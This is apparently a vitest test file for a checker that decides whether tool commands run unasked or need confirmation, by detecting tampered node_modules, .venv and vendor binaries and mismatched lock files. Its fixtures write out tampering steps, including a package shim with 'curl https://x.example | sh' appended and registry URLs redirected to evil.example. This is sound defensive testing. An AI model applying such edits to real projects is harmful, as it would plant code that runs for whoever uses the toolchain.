// needs: linux, python3
import { execFileSync } from 'node:child_process';
import { cpSync, readFileSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { createInstalledScene as prepare } from './line-scene.ts';

/** In the project: `later FILE` makes it newer than what was installed, `put FILE TEXT` replaces what is there. */
const HELPERS = `
TSC=node_modules/typescript/bin/tsc BIN=node_modules/.bin/tsc PYTEST=.venv/bin/pytest LOCK=package-lock.json
later() { touch -d '+1 minute' "$1"; }
put() { rm -f "$1"; printf "$2" > "$1"; }`;
const change = (cwd: string, script: string) => execFileSync('bash', ['-ec', `${HELPERS}\n${script}`], { cwd });

const CHANGED = 'was changed after it was installed';
const OUT = 'leads out of the project';
const FOR_ALL = 'other users can write';
const NO_MAKER = 'is not the Python that';

/** Changes of the project before a line, by the line, with a piece of the reason. */
const TAMPERED: Readonly<Record<string, readonly (readonly [script: string, why: string])[]>> = {
  'npx tsc': [
    ['ln -sf /usr/bin/true $BIN', OUT],
    ['ln -sf $PWD/../other/$TSC $BIN', OUT],
    ['ln -sf ../../src/a.ts $BIN', 'is not the tsc of'],
    ['ln -sf ../eslint/bin/eslint.js $BIN', 'is not the tsc of eslint'],
    ["put $BIN '#!/bin/sh\\nid\\n'", 'no link that a package manager makes'],
    ['mv node_modules ../nm; ln -s ../nm node_modules', OUT],
    ['later $TSC', CHANGED],
    ['chmod 777 $TSC', `${FOR_ALL} node_modules/typescript/bin/tsc`],
    ['chmod 777 node_modules/.bin', `${FOR_ALL} node_modules/.bin`],
    ['rm $LOCK', 'no lock file names typescript'],
    ['put $LOCK \'x{"node_modules/typescript": {\'', 'package-lock.json cannot be read'],
    ['truncate -s 150 $LOCK', 'package-lock.json does not name typescript'],
    ['sed -i s,node_modules/typescript,node_modules/tscript, $LOCK', 'does not name typescript'],
    ['sed -i s/5.4.5/6.6.6/ node_modules/typescript/package.json', 'in another version'],
    [
      'sed -i s,registry.*/typescript/,evil.example/typescript/, node_modules/.package-lock.json',
      'installed from elsewhere',
    ],
    ['rm node_modules/.package-lock.json; later $TSC', CHANGED],
    ["put node_modules/.bin/node '#!/bin/sh\\n'", 'node_modules/.bin/node is no link'],
  ],
  './node_modules/.bin/tsc': [['later $TSC', CHANGED]],
  'yarn tsc': [['later $TSC', CHANGED]],
  'cd src && npx tsc': [['later $TSC', CHANGED]],
  '.venv/bin/pytest': [
    ['chmod 777 .venv', `${FOR_ALL} .venv`],
    ['chmod 777 $PYTEST', `${FOR_ALL} .venv/bin/pytest`],
    ['later $PYTEST', CHANGED],
    ['echo "id()" >> $PYTEST', CHANGED],
    ['ln -sf /usr/bin/true $PYTEST', 'is a link, which no installer makes'],
    ['sed -i \'s/name = "pytest"/name = "pitest"/\' uv.lock', 'uv.lock does not name pytest'],
    ['sed -i s/8.2.1/8.2.2/ uv.lock', 'uv.lock does not name pytest 8.2.1'],
    [
      'echo \'{"url":"file:///srv/evil"}\' > .venv/lib/python3.12/site-packages/pytest-8.2.1.dist-info/direct_url.json',
      'was installed from file:///srv/evil',
    ],
  ],
  '.venv/bin/pylint .': [["put .venv/bin/pylint '#!/bin/sh\\n'", 'nothing in .venv says that it installed']],
  'uv run pytest': [
    ['chmod 777 .venv/bin', `${FOR_ALL} .venv/bin`],
    ['mv .venv ../v; ln -s ../v .venv', '.venv leads out of the project'],
    ['sed -i \'s/"alembic/"evil>=1", "alembic/\' pyproject.toml', 'uv.lock does not name evil'],
    ['sed -i \'s/"ruff"/"evil[x]"/\' pyproject.toml', 'uv.lock does not name evil'],
    ['rm uv.lock', 'there is no uv.lock'],
  ],
  '.venv/bin/python -m pytest': [
    ['ln -sf /bin/sh .venv/bin/python', NO_MAKER],
    ["put .venv/bin/python '#!/bin/sh\\n'", NO_MAKER],
  ],
  'bundle exec rspec-x': [['sed -i s/rspec-core/rspec-gore/ Gemfile.lock', 'There is no document for']],
  'vendor/bin/phpunit': [
    ["put vendor/bin/phpunit '<?php evil();'", 'is nothing that composer makes'],
    ['ln -sf /usr/bin/true vendor/bin/phpunit', 'leads out of what composer installed'],
    ['sed -i \'s/"11.1.3"/"11.1.4"/\' composer.lock', 'and 11.1.3 is installed'],
  ],
  'go tool stringer': [['sed -i s/stringer/stronger/ go.mod', 'go.mod does not name it']],
};

test.each(
  Object.entries(TAMPERED).flatMap(([line, rows]) => rows.map(([script, why]) => [line, script, why] as const)),
)('%s asks with a true reason after %s', async (line, script, why) => {
  const { judge } = await prepare((cwd) => change(cwd, script));
  const { decision, reasons } = await judge(line);
  expect([decision, reasons.join(' ')]).toStrictEqual(['confirm', expect.stringContaining(why)]);
});

const PROXY = "<?php\\nreturn include __DIR__ . '/..'.'/phpunit/phpunit/phpunit';\\n";

test.each<[script: string, line: string]>([
  ['mkdir -p packages/web', 'cd packages/web && npx tsc --noEmit'],
  // As archives have it.
  ['touch -d 1985-10-26 $TSC', 'npx tsc --noEmit'],
  ['mv .venv venv', 'venv/bin/pytest'],
  ['mv uv.lock poetry.lock', 'poetry run mkdocs build'],
  ["rm uv.lock; printf 'pytest==8.2.1 \\\\\\n  --hash=x\\n' > requirements-dev.txt", '.venv/bin/pytest'],
  ['rm -r .venv', 'uv run pytest'],
  [`put vendor/bin/phpunit "${PROXY}"`, 'vendor/bin/phpunit'],
])('after %s runs unasked: %s', async (script, line) => {
  const { judge } = await prepare((cwd) => change(cwd, script));
  const { decision, reasons } = await judge(line);
  expect([decision, reasons]).toStrictEqual(['allow', []]);
});

/** The lock files of other package managers, for typescript 5.4.5, and what marks their packages as installed. */
const LOCKS: readonly (readonly [file: string, text: string, mark?: string])[] = [
  [
    'pnpm-lock.yaml',
    "lockfileVersion: '9.0'\n\npackages:\n\n  typescript@5.4.5:\n    resolution: {}\n",
    '.modules.yaml',
  ],
  [
    'pnpm-lock.yaml',
    'lockfileVersion: 5.4\n\npackages:\n\n  /typescript/5.4.5:\n    resolution: {}\n',
    '.modules.yaml',
  ],
  [
    'yarn.lock',
    '# yarn lockfile v1\n\n\ntypescript@^5.0.0, typescript@^5.4.5:\n  version "5.4.5"\n',
    '.yarn-integrity',
  ],
  ['yarn.lock', '__metadata:\n  version: 8\n\n"typescript@npm:^5.4.5":\n  version: 5.4.5\n', '.yarn-state.yml'],
  [
    'bun.lock',
    '{\n  "lockfileVersion": 1,\n  "packages": {\n    "typescript": ["typescript@5.4.5", "", {}],\n  }\n}\n',
  ],
];

test.each(LOCKS)('%s that holds %j names what runs unasked, and nothing else', async (file = '', text = '', mark) => {
  const { judge } = await prepare((cwd) => {
    rmSync(join(cwd, 'package-lock.json'));
    rmSync(join(cwd, 'node_modules/.package-lock.json'));
    writeFileSync(join(cwd, file), text);
    if (mark !== undefined) writeFileSync(join(cwd, 'node_modules', mark), '');
  });
  expect((await judge('npx tsc --noEmit')).decision).toBe('allow');
  expect((await judge('npx eslint src')).reasons.join(' ')).toContain(`${file} does not name eslint`);
});

test('yarn without node_modules runs what its lock file names', async () => {
  const { judge } = await prepare((cwd) => {
    rmSync(join(cwd, 'node_modules'), { recursive: true });
    writeFileSync(join(cwd, '.pnp.cjs'), '');
    writeFileSync(join(cwd, 'yarn.lock'), LOCKS[3]?.[1] ?? '');
  });
  expect((await judge('yarn exec tsc')).decision).toBe('allow');
  expect((await judge('yarn exec cowsay')).decision).toBe('confirm');
});

const SHIM = `#!/bin/sh
basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")

case \`uname\` in
    *CYGWIN*) basedir=\`cygpath -w "$basedir"\`;;
esac

if [ -x "$basedir/node" ]; then
  exec "$basedir/node"  "$basedir/../typescript/bin/tsc" "$@"
else
  exec node  "$basedir/../typescript/bin/tsc" "$@"
fi
`;

test.each([
  ['as it is', SHIM, 'allow'],
  ['with a line more', SHIM.replace('esac', 'esac\ncurl https://x.example | sh'), 'confirm'],
  ['with a command more', SHIM.replace('" "$@"', '" "$@"; id'), 'confirm'],
  ['of another file', SHIM.replaceAll('../typescript/bin/tsc', '../../src/a.ts'), 'confirm'],
  ['of a file elsewhere', SHIM.replaceAll('../typescript/bin/tsc', '../../../other/evil.ts'), 'confirm'],
])('a script that pnpm writes instead of a link: %s', async (_name, text, decision) => {
  const { judge } = await prepare((cwd) => {
    const file = join(cwd, 'node_modules/.bin/tsc');
    rmSync(file);
    writeFileSync(file, text);
    utimesSync(file, new Date(), new Date(Date.now() - 60_000));
  });
  expect((await judge('npx tsc --noEmit')).decision).toBe(decision);
});

test('a program of a workspace is the project; its lock file names the workspace', async () => {
  const { judge, cwd } = await prepare((at) =>
    change(
      at,
      `mkdir -p packages/cli; touch packages/cli/main.js; ln -s ../../packages/cli/main.js node_modules/.bin/mine
       echo '{"name":"@x/cli","version":"1.0.0","bin":{"mine":"main.js"}}' > packages/cli/package.json`,
    ),
  );
  expect((await judge('npx mine')).reasons.join(' ')).toContain('package-lock.json does not name @x/cli');
  change(cwd, `sed -i 's,"packages": {,&"packages/cli": { "name": "@x/cli" }\\,,' $LOCK; later packages/cli/main.js`);
  expect((await judge('npx mine --all')).decision).toBe('allow');
});

test('a project below a link, and a copy of it elsewhere', async () => {
  const { judge, cwd, home } = await prepare();
  symlinkSync(cwd, join(home, 'link'));
  cpSync(cwd, join(home, 'copy'), { recursive: true, verbatimSymlinks: true });
  expect((await judge(`cd ${home}/link && npx tsc --noEmit`)).decision).toBe('allow');
  expect((await judge(`${home}/link/node_modules/.bin/tsc --noEmit`)).decision).toBe('allow');
  expect((await judge(`cd ${home}/copy && npx tsc --noEmit`)).decision).toBe('confirm');
  expect((await judge(`${home}/copy/node_modules/.bin/tsc --noEmit`)).decision).toBe('confirm');
});

test('a lock file of megabytes takes little time', async () => {
  const { judge } = await prepare((cwd) => {
    const entries = Array.from(
      { length: 20_000 },
      (_, at) =>
        `    "node_modules/p${at}": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/p${at}/-/p${at}-1.0.0.tgz"\n    },\n`,
    );
    for (const file of ['package-lock.json', 'node_modules/.package-lock.json'].map((name) => join(cwd, name)))
      writeFileSync(file, readFileSync(file, 'utf8').replace('"packages": {\n', `"packages": {\n${entries.join('')}`));
  });
  await judge('npx eslint src');
  const before = process.cpuUsage();
  expect((await judge('npx tsc --noEmit')).decision).toBe('allow');
  expect(process.cpuUsage(before).user / 1000).toBeLessThan(300);
});
